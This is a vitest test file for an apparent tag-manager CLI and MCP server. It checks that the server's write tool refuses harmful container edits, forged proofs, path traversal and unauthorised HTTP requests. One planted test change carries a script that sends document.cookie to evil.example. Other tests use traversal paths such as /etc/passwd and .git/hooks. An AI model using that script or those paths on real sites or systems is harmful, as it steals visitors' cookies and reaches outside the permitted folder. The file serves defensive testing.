import { spawn } from 'node:child_process'
import { copyFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import { called, emptyFolder, install, packedCli } from './artefact.ts'
import { pointersOf, tasksOf } from './mcp.testing.ts'
import { type McpClient, overHttp, overStdio } from './mcpClient.mjs'

const home = emptyFolder()
const folder = join(home, 'work')
const command = join(home, 'node_modules/tagmason/bin/tagmason.mjs')
const at = 'tracking/container.json'
const goals = 'Track purchases and newsletter sign-ups'
let client: McpClient
let original: string
const { call, refused, kept, read } = tasksOf(() => client, folder)

beforeAll(async () => {
  install(packedCli(home), home)
  mkdirSync(folder)
  await called(process.execPath, [command, 'plan', '--goals', goals, '--measurement-id', 'G-AB12CD34EF', '--out', 'tracking'], folder)
  original = read(at)
  writeFileSync(join(home, 'outside.json'), original)
  symlinkSync(join(home, 'outside.json'), join(folder, 'link.json'))
  symlinkSync(home, join(folder, 'up'), 'junction')
  client = await overStdio([command, 'mcp', '--folder', folder], home)
})
beforeEach(() => writeFileSync(join(folder, at), original))
afterAll(() => client.close())

const change = async (changes: object[]) => await call('effect', { before: at, changes })

describe('tasks over files', () => {
  it('lists eleven tools with schemas, of which one writes', async () => {
    const { tools } = await client.listTools()
    expect(tools.map(({ name }) => name)).toEqual('plan explain audit simulate test effect mutate prove live merge write'.split(' '))
    expect(tools.filter(({ annotations }) => annotations?.readOnlyHint !== true).map(({ name }) => name)).toEqual(['write'])
    for (const { inputSchema, description } of tools)
      expect([inputSchema, description]).toEqual([expect.objectContaining({ type: 'object' }), expect.stringMatching(/.{20}/)])
  })

  it.each<[string, string, object, RegExp]>([
    ['plans goals', 'plan', { goals: 'Track sign-ups' }, /sign_up[\s\S]+draft:\d+\/container\.json/],
    ['plans German goals', 'plan', { goals: 'Käufe über 50 Euro messen', language: 'de' }, /purchase/],
    ['explains a tag', 'explain', { container: at, tag: 'GA4 - purchase' }, /fires: open .+ then push/],
    ['audits', 'audit', { container: at }, /0 errors/],
    [
      'simulates steps',
      'simulate',
      {
        container: at,
        steps: [
          { type: 'pageLoad', url: 'https://shop.example/' },
          { type: 'push', data: { event: 'purchase' } },
        ],
      },
      /fired +GA4 - purchase/,
    ],
    [
      'simulates a test of a file',
      'simulate',
      { container: at, steps: 'tracking/tests.yaml', test: 'purchase is sent', trace: true },
      /GA4 - purchase on purchase/,
    ],
    ['runs tests', 'test', { container: at, tests: 'tracking/tests.yaml' }, / 0 failed/],
    ['compares a container with itself', 'effect', { before: at, after: at }, /Nothing leaves the browser differently/],
    ['judges tests by mutants', 'mutate', { container: at, tests: 'tracking/tests.yaml' }, /faults noticed[\s\S]+Proof: draft:/],
    ['completes tests', 'mutate', { container: at, tests: 'tracking/tests.yaml', complete: true }, /Draft: draft:\d+\/tests\.yaml/],
    ['proves consent', 'prove', { what: 'consent', container: at, cmp: 'late:800ms', region: 'US-CA' }, /Passed\.\nProof: draft:/],
    ['follows personal data', 'prove', { what: 'data', container: at }, /Proof: draft:/],
    ['merges', 'merge', { base: at, ours: at, theirs: at }, /0 changed/],
  ])('%s', async (_, name, args, says) => {
    expect(await call(name, args)).toMatch(says)
  })

  it('reads a published container from a saved script, and audits the draft', async () => {
    const resource = {
      version: '7',
      macros: [{ function: '__e' }],
      tags: [{ function: '__gaawe', once_per_event: true, vtp_eventName: 'purchase', vtp_measurementIdOverride: 'G-ABC123', tag_id: 3 }],
      predicates: [{ function: '_eq', arg0: ['macro', 0], arg1: 'purchase' }],
      rules: [
        [
          ['if', 0],
          ['add', 0],
        ],
      ],
    }
    writeFileSync(join(folder, 'gtm.js'), `(function(){var data = ${JSON.stringify({ resource, blob: { 10: 'GTM-ABCD123' } })};})()`)
    const { from } = kept(await call('live', { from: 'gtm.js' }))
    expect(await call('audit', { container: from })).toMatch(/ \d+ errors?, /)
  })

  it('gives long answers in pages under 45,000 bytes, which together are the answer', async () => {
    const parsed = JSON.parse(original) as { containerVersion: { tag: { tagId: string; name: string }[] } }
    const [, , tag] = parsed.containerVersion.tag
    for (let copy = 0; copy < 400; copy++) parsed.containerVersion.tag.push({ ...tag, tagId: String(9000 + copy), name: `${tag?.name ?? ''} ${copy}` })
    writeFileSync(join(folder, 'large.json'), JSON.stringify(parsed))
    const pages: string[] = []
    for (let page = 1; page < 50; page++) {
      const text = await call('simulate', { container: 'large.json', steps: 'tracking/tests.yaml', test: 'purchase is sent', trace: true, page })
      expect(Buffer.byteLength(text)).toBeLessThan(45_200)
      const [, body = '', of = '1'] = /^([\s\S]*?)\n\nPage \d+ of (\d+)/.exec(text) ?? []
      pages.push(body)
      if (page === Number(of)) break
    }
    expect(pages.length).toBeGreaterThan(1)
    expect(pages.join('')).toContain('GA4 - purchase 399')
    expect(await refused('audit', { container: at, page: 9 })).toBe('There is no page 9: the answer has 1.')
  })

  it('has the documentation and the help of commands as resources, and prompts', async () => {
    const { resources } = await client.listResources()
    expect(resources.map(({ uri }) => uri)).toEqual(expect.arrayContaining(['tagmason://help/effect', 'tagmason://docs/work-with-an-assistant-over-mcp']))
    for (const { uri } of resources) expect((await client.readResource({ uri })).contents[0]?.text).toMatch(/\S/)
    await expect(client.readResource({ uri: 'tagmason://docs/../package' })).rejects.toThrow('There is no resource')
    expect((await client.listPrompts()).prompts.map(({ name }) => name)).toEqual(['plan_tracking', 'review_change', 'fix_audit'])
    expect((await client.getPrompt({ name: 'review_change', arguments: { before: 'a.json', after: 'b.json' } })).messages[0]?.content.text).toContain('a.json')
    await expect(client.getPrompt({ name: 'review_change', arguments: {} })).rejects.toThrow("needs 'before'")
  })
})

describe('write', () => {
  const replaced = (draft: string) => ({ path: at, ...kept(draft) })

  it('takes a change that changes nothing for visitors', async () => {
    const { tag } = pointersOf(original)
    const answer = await change([{ op: 'add', path: `${tag('GA4 - purchase').pointer}/notes`, value: 'Agreed with the shop.' }])
    expect(await call('write', replaced(answer))).toContain("by a proof of 'effect' that holds")
    expect(read(at)).toContain('Agreed with the shop.')
  })

  it('takes a change with a hit that is meant', async () => {
    const { tag } = pointersOf(original)
    const { value } = tag('GA4 - purchase')
    const answer = await change([
      {
        op: 'add',
        path: '/containerVersion/tag/-',
        value: {
          ...value,
          tagId: '900',
          name: 'Second',
          parameter: (value['parameter'] as { key: string; value?: string }[]).map((one) => (one.key === 'eventName' ? { ...one, value: 'order' } : one)),
        },
      },
    ])
    expect(answer).toContain('gained')
    expect(await refused('write', replaced(answer))).toContain('gained: GA4 event order')
    expect(await call('write', { ...replaced(answer), meant: ['GA4 event order'] })).toContain('Written')
  })

  it('takes a new container with a proof of consent, and tests with one of mutants', async () => {
    const { from } = kept(await call('plan', { goals: 'Track sign-ups' }))
    const draft = from.replace('plan.json', 'container.json')
    const { proof } = kept(await call('prove', { what: 'consent', container: draft }))
    expect(await call('write', { path: 'new/container.json', from: draft, proof })).toContain('Written')
    const tests = 'tracking/tests.yaml'
    const judged = kept(await call('mutate', { container: at, tests }))
    expect(await call('write', { path: 'new/tests.yaml', from: tests, proof: judged.proof, container: at })).toContain('Written')
  })

  const planted: [string, (parts: ReturnType<typeof pointersOf>) => object[]][] = [
    ['pauses a tag', ({ tag }) => [{ op: 'add', path: `${tag('GA4 - purchase').pointer}/paused`, value: true }]],
    ['removes a tag', ({ tag }) => [{ op: 'remove', path: tag('GA4 - newsletter_sign_up').pointer }]],
    ['takes the trigger of a tag away', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/firingTriggerId`, value: [] }]],
    [
      'misspells the event of a trigger',
      ({ trigger }) => [{ op: 'replace', path: `${trigger('CE - purchase').pointer}/customEventFilter/0/parameter/1/value`, value: 'purchased' }],
    ],
    ['sends twice', ({ tag }) => [{ op: 'add', path: '/containerVersion/tag/-', value: { ...tag('GA4 - purchase').value, tagId: '900', name: 'Copy' } }]],
    [
      'sends to another property',
      ({ variable }) => [{ op: 'replace', path: `${variable('Const - GA4 Measurement ID').pointer}/parameter/0/value`, value: 'G-EVIL00EVIL' }],
    ],
    ['takes the default of consent away', ({ tag }) => [{ op: 'add', path: `${tag('Consent - Default denied').pointer}/paused`, value: true }]],
    [
      'brings code of its own',
      () => [
        {
          op: 'add',
          path: '/containerVersion/tag/-',
          value: {
            accountId: '0',
            containerId: '0',
            tagId: '901',
            name: 'Html',
            type: 'html',
            parameter: [{ type: 'TEMPLATE', key: 'html', value: "<script>fetch('https://evil.example/?' + document.cookie)</script>" }],
            firingTriggerId: ['2147479553'],
          },
        },
      ],
    ],
    ['does not import', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/type`, value: 7 }]],
  ]
  it.each(planted)('refuses a change that %s', async (_, changesOf) => {
    const answer = await change(changesOf(pointersOf(original)))
    expect(await refused('write', replaced(answer))).toMatch(/^tracking\/container\.json is not written: /)
    expect(read(at)).toBe(original)
  })

  it('refuses the lack of consent also where every hit is meant', async () => {
    const { tag } = pointersOf(original)
    const answer = await change([{ op: 'add', path: `${tag('Consent - Default denied').pointer}/paused`, value: true }])
    const meant = [...answer.matchAll(/^(?:lost|changed|gained|doubled|unknown) +(.+?) on /gm)].map(([, label]) => label)
    expect(await refused('write', { ...replaced(answer), meant })).toContain('is not written')
  })

  const harmless = async () => await change([{ op: 'add', path: `${pointersOf(original).tag('GA4 - purchase').pointer}/notes`, value: 'x' }])

  it('refuses a forged proof, one of another command, one of visits of its own and none at all', async () => {
    const losing = kept(await change([{ op: 'add', path: `${pointersOf(original).tag('GA4 - purchase').pointer}/paused`, value: true }]))
    const honest = kept(await harmless())
    const proof = (name: string, text: string) => (writeFileSync(join(folder, name), text), name)
    // The assistant has other tools, and writes what it likes into the folder.
    expect(await called(process.execPath, [command, 'effect', at, at, '--proof', 'same.json'], folder)).toMatchObject({ code: 0 })
    const same = JSON.parse(read('same.json')) as Record<string, unknown>
    for (const [forged, says] of [
      [proof('forged.json', JSON.stringify({ ...same, summary: { lost: 0 } })), 'changed'],
      ['same.json', 'otherInput'],
      [proof('none.json', '{}'), 'is no proof'],
      [proof('text.json', 'trust me'), 'is no proof'],
      ['gone.json', 'cannot be read'],
    ] as const)
      expect(await refused('write', { path: at, from: losing.from, proof: forged })).toContain(says)
    expect(await refused('write', { path: at, from: losing.from, proof: honest.proof })).toContain('otherInput')
    expect(await refused('write', { path: at, from: honest.from, proof: kept(await call('prove', { what: 'data', container: at })).proof })).toContain(
      "needs a proof of 'effect'",
    )
    writeFileSync(join(folder, 'blind.yaml'), '- { type: pageLoad, url: "https://shop.example/" }\n')
    const blind = kept(await call('effect', { before: at, after: losing.from, visits: 'blind.yaml' }))
    expect(await refused('write', { path: at, from: losing.from, proof: blind.proof })).toContain('visits of your own')
    expect(read(at)).toBe(original)
  })

  it('refuses a proof against the file as it was before someone else changed it', async () => {
    const draft = kept(await harmless())
    writeFileSync(join(folder, at), original.replace('"name": "GA4 - purchase",', '"name": "GA4 - purchase", "paused": true,'))
    expect(await refused('write', { path: at, ...draft })).toContain('otherInput')
  })

  it('refuses a new container without consent, and tests that were not judged', async () => {
    const open = kept(await call('plan', { goals, consent: 'none' })).from.replace('plan.json', 'container.json')
    const proof = kept(await call('prove', { what: 'consent', container: open })).proof
    expect(await refused('write', { path: 'open.json', from: open, proof })).toContain("the proof of 'consent prove' did not pass")
    expect(await refused('write', { path: 'open.json', from: open, proof: kept(await call('prove', { what: 'data', container: open })).proof })).toContain(
      "needs a proof of 'consent prove'",
    )
    writeFileSync(
      join(folder, 'weak.yaml'),
      'container: tracking/container.json\ntests:\n  - name: Weak\n    steps:\n      - { type: pageLoad, url: "https://shop.example/" }\n',
    )
    const weak = kept(await call('mutate', { container: at, tests: 'weak.yaml' }))
    expect(await refused('write', { path: 'tracking/tests.yaml', from: 'weak.yaml', proof: weak.proof, container: at })).toContain(
      "the proof of 'mutate' did not pass",
    )
  })

  it.each([
    ['../outside.json', 'leads out of the folder'],
    ['/etc/cron.d/x.json', 'leads out of the folder'],
    ['link.json', 'leads out of the folder'],
    ['up/outside.json', 'leads out of the folder'],
    ['draft:../../x.json', 'leads out of the folder'],
    ['.git/hooks/x.json', 'outside of hidden folders'],
    ['run.mjs', 'outside of hidden folders'],
    ['package.json', 'is no container, and would be lost'],
  ])('refuses to write %s', async (path, says) => {
    writeFileSync(join(folder, 'package.json'), '{"private":true}')
    expect(await refused('write', { path, ...kept(await harmless()) })).toContain(says)
    expect(readFileSync(join(home, 'outside.json'), 'utf8')).toBe(original)
    expect(read('package.json')).toBe('{"private":true}')
  })

  it.each(['../outside.json', 'link.json', 'up/outside.json', '/etc/passwd'])('reads nothing of %s', async (path) => {
    for (const [name, args] of [
      ['audit', { container: path }],
      ['simulate', { container: at, steps: path }],
      ['effect', { before: path, after: at }],
      ['live', { from: path }],
    ] as const)
      expect(await refused(name, args)).toContain('leads out of the folder')
  })
})

it('the proofs of tools hold for the command line too', async () => {
  const { from, proof } = kept(await call('effect', { before: at, changes: [{ op: 'add', path: '/containerVersion/notes', value: 'x' }] }))
  expect([from, proof]).toEqual([expect.stringMatching(/^draft:/), expect.stringMatching(/^draft:/)])
  copyFileSync(join(folder, at), join(folder, 'copy.json'))
  expect(await called(process.execPath, [command, 'effect', at, 'copy.json', '--proof', 'copy.proof.json'], folder)).toMatchObject({ code: 0 })
  expect(await call('write', { path: at, from: 'copy.json', proof: 'copy.proof.json' })).toContain('Written')
})

describe('over HTTP', () => {
  it('does the same for programs of this machine that have the token, and refuses others', async () => {
    const { url, token, end } = await startedOverHttp()
    const other = await overHttp(url, token)
    const { content } = await other.callTool({ name: 'audit', arguments: { container: at } })
    expect(content[0]?.text).toContain('0 errors')
    await other.close()
    const asked = (headers: Record<string, string>, method = 'POST') =>
      fetch(url, { method, headers, ...(method === 'POST' ? { body: '{}' } : {}) }).then(({ status }) => status)
    const good = { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }
    expect(await asked({ ...good, Authorization: 'Bearer wrong' })).toBe(401)
    expect(await asked({ 'Content-Type': 'text/plain' })).toBe(401)
    expect(await asked({ ...good, Origin: 'https://evil.example' })).toBe(403)
    expect(await asked(good, 'GET')).toBe(405)
    await expect(overHttp(url, 'wrong')).rejects.toThrow('token')
    expect(await end()).toBe(0)
  })
})

describe('with an installation', () => {
  it('asks its API with the key, and gives its refusals as they are', async () => {
    const calls: unknown[] = []
    const server = createServer(async (request, response) => {
      let body = ''
      for await (const part of request) body += String(part)
      calls.push([request.method, request.url, request.headers.authorization, body])
      const known = request.headers.authorization === 'Bearer atk_test_good'
      response
        .writeHead(known ? 200 : 401, { 'Content-Type': 'application/json' })
        .end(JSON.stringify(known ? { rows: [{ visitors: 12 }] } : { title: 'Unauthorized' }))
    })
    onTestFinished(() => void server.close())
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const TAGMASON_URL = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const question = { measures: ['visitors'], by: ['day'] }
    for (const [TAGMASON_KEY, says] of [
      ['atk_test_good', '{"rows":[{"visitors":12}]}'],
      ['atk_test_gone', 'refused with 401'],
    ] as const) {
      const own = await overStdio([command, 'mcp', '--folder', folder], home, { TAGMASON_URL, TAGMASON_KEY })
      expect((await own.listTools()).tools.map(({ name }) => name)).toContain('installation')
      const { content } = await own.callTool({ name: 'installation', arguments: { ask: 'query', question } })
      expect(content[0]?.text).toContain(says)
      expect(content[0]?.text).not.toContain(TAGMASON_KEY)
      await own.close()
    }
    expect(calls[0]).toEqual(['POST', '/api/v1/query', 'Bearer atk_test_good', JSON.stringify(question)])
  })

  it.each([
    [{ TAGMASON_URL: 'https://stats.shop.example' }, 'both TAGMASON_URL and TAGMASON_KEY'],
    [{ TAGMASON_URL: 'http://stats.shop.example', TAGMASON_KEY: 'x' }, 'the key would travel in the open'],
    [{ TAGMASON_URL: 'stats', TAGMASON_KEY: 'x' }, "cannot be 'stats'"],
  ])('refuses %j in one sentence', async (env, says) => {
    expect(await called(process.execPath, [command, 'mcp'], folder, env)).toMatchObject({ code: 2, error: expect.stringContaining(says) as string })
  })
})

/** Starts the server on a free port. */
async function startedOverHttp() {
  const server = spawn(process.execPath, [command, 'mcp', '--folder', folder, '--http', '0'], { stdio: ['ignore', 'ignore', 'pipe'] })
  onTestFinished(() => void server.kill('SIGKILL'))
  const ended = new Promise<number | null>((resolve) => server.once('exit', resolve))
  const said = await new Promise<string>((resolve) => server.stderr.once('data', (part: Buffer) => resolve(String(part))))
  const [, url = '', token = ''] = /Serving (\S+) with Authorization: Bearer (\S+)/.exec(said) ?? []
  return { url, token, end: () => (server.kill('SIGTERM'), ended) }
}
